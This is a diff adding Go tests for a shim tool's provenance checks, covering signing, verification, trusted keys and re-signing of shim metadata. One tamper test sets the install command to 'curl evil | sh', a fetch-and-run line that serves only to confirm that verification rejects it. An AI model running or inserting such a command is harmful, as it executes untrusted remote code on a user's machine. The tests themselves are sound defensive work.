@@ -0,0 +1,160 @@
+package main
+
+import (
+	"strings"
+	"testing"
+
+	"github.com/c4rb0nx1/tuprwre/internal/config"
+	"github.com/c4rb0nx1/tuprwre/internal/provenance"
+	"github.com/c4rb0nx1/tuprwre/internal/shim"
+)
+
+func TestVerifyRunProvenance(t *testing.T) {
+	t.Setenv("TUPRWRE_DIR", t.TempDir())
+	cfg, err := config.Load()
+	if err != nil {
+		t.Fatalf("load config: %v", err)
+	}
+	gen := shim.NewGenerator(cfg)
+
+	// Runs no shim owns are not checked.
+	if _, id, err := verifyRunProvenance(cfg, "jq", "tuprwre-jq:1", false); err != nil || id != "" {
+		t.Fatalf("unowned run: id=%q err=%v", id, err)
+	}
+
+	meta := shim.Metadata{
+		BinaryName:     "jq",
+		InstallCommand: "apt-get install -y jq",
+		BaseImage:      "ubuntu:22.04",
+		OutputImage:    "tuprwre-jq:1",
+	}
+	if err := gen.SaveMetadata(meta); err != nil {
+		t.Fatalf("seed metadata: %v", err)
+	}
+	if _, _, err := verifyRunProvenance(cfg, "jq", "tuprwre-jq:1", false); err == nil || !strings.Contains(err.Error(), "not signed") {
+		t.Fatalf("unsigned shim: err=%v", err)
+	}
+	if _, _, err := verifyRunProvenance(cfg, "jq", "tuprwre-jq:1", true); err != nil {
+		t.Fatalf("unsigned shim with allowUnsigned: %v", err)
+	}
+
+	local, err := provenance.LoadOrCreateKey(cfg.BaseDir)
+	if err != nil {
+		t.Fatalf("create key: %v", err)
+	}
+	if err := signMetadata(local, &meta, "sha256:aaa"); err != nil {
+		t.Fatalf("sign: %v", err)
+	}
+	if err := gen.SaveMetadata(meta); err != nil {
+		t.Fatalf("save metadata: %v", err)
+	}
+	if _, id, err := verifyRunProvenance(cfg, "jq", "tuprwre-jq:1", false); err != nil || id != "sha256:aaa" {
+		t.Fatalf("signed shim: id=%q err=%v", id, err)
+	}
+	// A valid signature is enforced even when unsigned runs are allowed.
+	if _, id, _ := verifyRunProvenance(cfg, "jq", "tuprwre-jq:1", true); id != "sha256:aaa" {
+		t.Fatalf("signed shim with allowUnsigned: id=%q", id)
+	}
+
+	tampered := meta
+	tampered.InstallCommand = "curl evil | sh"
+	if err := gen.SaveMetadata(tampered); err != nil {
+		t.Fatalf("save metadata: %v", err)
+	}
+	if _, _, err := verifyRunProvenance(cfg, "jq", "tuprwre-jq:1", false); err == nil {
+		t.Fatal("expected tampered metadata to fail verification")
+	}
+
+	teammate, err := provenance.LoadOrCreateKey(t.TempDir())
+	if err != nil {
+		t.Fatalf("create teammate key: %v", err)
+	}
+	if err := signMetadata(teammate, &meta, "sha256:bbb"); err != nil {
+		t.Fatalf("sign: %v", err)
+	}
+	if err := gen.SaveMetadata(meta); err != nil {
+		t.Fatalf("save metadata: %v", err)
+	}
+	if _, _, err := verifyRunProvenance(cfg, "jq", "tuprwre-jq:1", false); err == nil || !strings.Contains(err.Error(), "untrusted key") {
+		t.Fatalf("teammate-signed shim: err=%v", err)
+	}
+	cfg.TrustedKeys = []string{teammate.PublicKey()}
+	if _, id, err := verifyRunProvenance(cfg, "jq", "tuprwre-jq:1", false); err != nil || id != "sha256:bbb" {
+		t.Fatalf("trusted teammate: id=%q err=%v", id, err)
+	}
+}
+
+func TestResignShims(t *testing.T) {
+	t.Setenv("TUPRWRE_DIR", t.TempDir())
+	cfg, err := config.Load()
+	if err != nil {
+		t.Fatalf("load config: %v", err)
+	}
+	key, err := provenance.LoadOrCreateKey(cfg.BaseDir)
+	if err != nil {
+		t.Fatalf("create key: %v", err)
+	}
+	prev := keyImageID
+	t.Cleanup(func() { keyImageID = prev })
+	keyImageID = func(_ *config.Config, image string) (string, error) {
+		return map[string]string{"tuprwre-jq:1": "sha256:aaa", "tuprwre-yq:1": "sha256:ccc", "tuprwre-gh:1": "sha256:ddd"}[image], nil
+	}
+
+	gen := shim.NewGenerator(cfg)
+	for _, meta := range []shim.Metadata{
+		// Installed before signing existed.
+		{BinaryName: "jq", OutputImage: "tuprwre-jq:1"},
+		// Its tag moved since the recorded ID.
+		{BinaryName: "yq", OutputImage: "tuprwre-yq:1", ImageID: "sha256:bbb"},
+		// Imported without its signature.
+		{BinaryName: "gh", OutputImage: "tuprwre-gh:1", Forward: []string{"ssh-agent"}, State: true},
+	} {
+		if err := gen.SaveMetadata(meta); err != nil {
+			t.Fatalf("seed metadata: %v", err)
+		}
+	}
+
+	var out strings.Builder
+	if err := resignShims(&out, cfg, key, []string{"jq"}); err != nil {
+		t.Fatalf("resignShims(jq): %v\n%s", err, out.String())
+	}
+	if _, id, err := verifyRunProvenance(cfg, "jq", "tuprwre-jq:1", false); err != nil || id != "sha256:aaa" {
+		t.Fatalf("after re-sign: id=%q err=%v", id, err)
+	}
+
+	out.Reset()
+	if err := resignShims(&out, cfg, key, nil); err == nil {
+		t.Fatal("expected a shim whose tag moved not to be re-signed")
+	}
+	got := out.String()
+	if strings.Contains(got, "Re-signed shim: jq") {
+		t.Fatalf("expected signed shims to be left alone:\n%s", got)
+	}
+	if !strings.Contains(got, "Re-signed shim: gh") || !strings.Contains(got, "forward: ssh-agent") || !strings.Contains(got, "state: true") {
+		t.Fatalf("expected gh and its grants in the output:\n%s", got)
+	}
+	if !strings.Contains(got, "not re-signing yq") {
+		t.Fatalf("unexpected output:\n%s", got)
+	}
+	if _, _, err := verifyRunProvenance(cfg, "yq", "tuprwre-yq:1", false); err == nil {
+		t.Fatal("expected yq to stay unsigned")
+	}
+
+	// Widening a signed shim's grants breaks its signature; re-signing must
+	// not paper over that.
+	meta, err := gen.LoadMetadata("jq")
+	if err != nil {
+		t.Fatalf("load jq: %v", err)
+	}
+	meta.Forward = []string{"env=GITHUB_TOKEN"}
+	if err := gen.SaveMetadata(meta); err != nil {
+		t.Fatalf("tamper jq: %v", err)
+	}
+	out.Reset()
+	if err := resignShims(&out, cfg, key, []string{"jq"}); err == nil {
+		t.Fatalf("expected tampered metadata to be refused:\n%s", out.String())
+	}
+	if !strings.Contains(out.String(), "signature does not verify") {
+		t.Fatalf("unexpected output:\n%s", out.String())
+	}
+}